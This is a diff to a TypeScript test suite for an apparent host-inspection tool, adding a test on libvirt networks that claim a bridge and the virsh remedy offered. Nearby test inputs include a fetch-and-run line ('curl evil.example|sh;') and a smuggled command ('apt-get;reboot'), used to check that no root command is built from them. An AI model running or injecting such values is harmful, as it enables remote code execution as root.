@@ -99,6 +99,21 @@ describe('an inspected host', () => {
     });
   });
 
+  it('names a network of libvirt that would delete a bridge of Atoll, and how to prevent it', () => {
+    const of = (...facts: string[]) => check([...facts, WELL].join('\n'), 'host_libvirt_networks');
+    expect(of()).toMatchObject({ state: 'ok', found: 'none has', remedy: null });
+    expect(of('libvirt-claims blue office net')).toMatchObject({
+      state: 'warning',
+      found: 'the libvirt network "office net" has the bridge blue',
+      remedy: { command: null },
+    });
+    expect(of('libvirt-claims blue office')?.remedy?.command).toEqual([
+      ...['virsh', '-c', 'qemu:///system', 'net-edit', 'office'],
+    ]);
+    expect(of('libvirt-claims blue --all')?.remedy?.command).toBeNull();
+    expect(of('root 1000', 'libvirt-networks unreadable')?.found).toBe('tested once this computer is a host');
+  });
+
   it('cannot choose the program in a command that the user runs as root', () => {
     for (const manager of ['curl evil.example|sh;', 'pacman', '/tmp/apt-get', 'apt-get;reboot', '__proto__'])
       expect(check(`ip \npackages ${manager}\n${WELL}`, 'host_ip')?.remedy?.command).toBeNull();
